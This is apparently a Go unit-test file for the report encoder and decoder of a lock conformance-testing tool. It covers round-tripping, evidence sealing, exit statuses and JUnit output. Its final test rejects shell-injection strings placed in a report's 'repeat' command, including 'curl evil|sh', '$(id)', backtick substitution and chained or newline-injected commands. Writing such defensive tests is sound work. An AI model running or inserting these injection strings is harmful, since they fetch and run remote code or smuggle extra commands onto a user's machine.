package report

import (
	"encoding/xml"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/postern-lock/postern/conformance/shim"
)

func sample() *Report {
	r := &Report{
		Suite: Suite{"1", 1, "abc"}, Target: "demo", Product: Product{Role: shim.RoleLock, Name: "clock", Version: "2", Level: shim.L2},
		Claims: Claims{Profiles: 15, Options: []string{"button"}}, Seeds: []uint64{1}, Started: time.Unix(1800000000, 0).UTC(), Took: 1500,
	}
	for _, v := range Verdicts {
		r.Results = append(r.Results, Result{
			Case: "LOCK-APDU-001", Revision: 1, Title: "a & b", Requirements: []string{"PST-APDU-001"}, Polarity: "negative", Fault: "a <bad> byte", Seed: 1, Verdict: v,
			Message: "because \x00", Took: 12, Repeat: "postern run --case LOCK-APDU-001",
			Exchanges: []Exchange{
				{Stage: "twin", Control: "power on"},
				{Stage: "twin", What: "begin", Command: shim.Hex{0, 0xA4, 4, 0}, Response: shim.Hex{0x6A, 0x82}},
				{Stage: "fault", Command: shim.Hex{1}, Silent: true},
			},
		})
	}
	return r
}

func TestReportComesBack(t *testing.T) {
	r := sample()
	b, err := r.Encode()
	require.NoError(t, err)
	got, err := Decode(b)
	require.NoError(t, err)
	require.Equal(t, r, got)
}

// TestEvidenceHolds leaves exchanges out and alters them.
func TestEvidenceHolds(t *testing.T) {
	r := sample()
	for i := range r.Results {
		r.Results[i].Seal()
	}
	x := &r.Results[0]
	require.Equal(t, Traffic{Commands: 2, Sent: 5, Received: 2}, x.Traffic)
	require.Len(t, x.Evidence, 64)
	evidence := x.Evidence
	decode := func() error {
		b, err := r.Encode()
		require.NoError(t, err)
		_, err = Decode(b)
		return err
	}
	require.NoError(t, decode())
	x.Exchanges[1].Response[0] ^= 1
	require.ErrorContains(t, decode(), "case LOCK-APDU-001 has other exchanges")
	x.Exchanges = nil
	require.NoError(t, decode())
	x.Seal()
	require.NotEqual(t, evidence, x.Evidence, "a case without exchanges has no evidence")
}

func TestMeter(t *testing.T) {
	var m Meter
	require.Empty(t, m.Costs())
	selects := func(took int64) Exchange {
		return Exchange{Command: shim.Hex{0, 0xA4, 4, 0}, Response: shim.Hex{0x90, 0}, Took: took}
	}
	m.Add([]Exchange{selects(9), selects(1), selects(4), {Control: "power on"}, {Command: shim.Hex{0, 0xA4, 4, 0}, Response: shim.Hex{0x6A, 0x82}}})
	require.Equal(t, []Cost{{Command: "SELECT", Times: 3, Half: 4, All: 9, Bytes: 6}}, m.Costs())
}

func TestDecodeRefuses(t *testing.T) {
	for _, bad := range []string{"", "[]", "{}{}", `{"colour":1}`, `{"results":[{"verdict":"MAYBE"}]}`, `{"results":[{"exchanges":[{"command":"0"}]}]}`} {
		_, err := Decode([]byte(bad))
		require.Error(t, err, bad)
	}
}

func TestStatus(t *testing.T) {
	of := func(v ...Verdict) int {
		r := &Report{}
		for _, x := range v {
			r.Results = append(r.Results, Result{Verdict: x})
		}
		return r.Status()
	}
	require.Equal(t, 0, of(Pass, NotApplicable, Skip, Warn))
	require.Equal(t, 1, of(Pass, Fail, Inconclusive))
	require.Equal(t, 3, of(Pass, Inconclusive))
	require.Equal(t, 4, of(Pass, Fail, Error))
	require.Equal(t, 4, of(), "nothing executed")
	require.Equal(t, 4, of(NotApplicable, Skip), "nothing executed")
	require.Equal(t, 3, of(Inconclusive))
	require.Equal(t, 3, (&Report{Rig: "gone", Results: []Result{{Verdict: Pass}}}).Status())
}

func TestCounts(t *testing.T) {
	require.Equal(t, "1 ERROR, 1 FAIL, 1 INCONC, 1 WARN, 1 PASS, 1 NA, 1 SKIP", sample().Counts().String())
	require.Equal(t, "", (&Report{}).Counts().String())
}

func TestJUnit(t *testing.T) {
	r := sample()
	b, err := r.JUnit()
	require.NoError(t, err)
	var s junitSuite
	require.NoError(t, xml.Unmarshal(b, &s))
	require.Equal(t, []int{7, 1, 2, 2}, []int{s.Tests, s.Failures, s.Errors, s.Skipped})
	require.Equal(t, "LOCK-APDU", s.Cases[0].Class)
	require.NotNil(t, s.Cases[0].Error)
	require.NotNil(t, s.Cases[1].Failure)
	require.Equal(t, "because \uFFFD", s.Cases[1].Failure.Message)
	require.Contains(t, s.Cases[1].Failure.Text, "a <bad> byte")
	require.NotEmpty(t, s.Cases[3].Out)
	require.Nil(t, s.Cases[4].Failure)
	require.NotNil(t, s.Cases[5].Skipped)
	require.NotContains(t, string(b), "(seed")
	r.Seeds = []uint64{1, 2}
	b, err = r.JUnit()
	require.NoError(t, err)
	require.Contains(t, string(b), "(seed 1)")
}

func TestDetails(t *testing.T) {
	require.Equal(t, `twin:
  * power on
  > 00a40400  SELECT  (begin)
  < 6a82  6A82 not-found
fault:
  > 01  no command
  < nothing
again: postern run --case LOCK-APDU-001
`, sample().Results[0].Details())
	require.Equal(t, "the fault: a <bad> byte\nbecause \x00\n", sample().Results[0].Finding())
}

// TestRepeatIsNoOtherCommand: what people copy out of a stranger's report runs
// nothing but the tool.
func TestRepeatIsNoOtherCommand(t *testing.T) {
	for command, good := range map[string]bool{
		"postern run --target 'demo' --case LOCK-CHAIN-001 --seed 1":                 true,
		`postern run --role app --target 'exec:it'\''s' --control 'exec:b' --seed 7`: true,
		"postern run; curl evil|sh":                         false,
		"postern run --target 'demo' --case $(id) --seed 1": false,
		"postern run --target 'demo'; id":                   false,
		"postern run --target 'demo' --case A --seed 1\nid": false,
		"postern run --target demo`id`":                     false,
		`postern run --target \'demo;id'`:                   false,
		"evil --target 'demo'":                              false,
	} {
		r := sample()
		r.Results[0].Repeat = command
		b, err := r.Encode()
		require.NoError(t, err)
		_, err = Decode(b)
		require.Equal(t, good, err == nil, "%s: %v", command, err)
	}
}
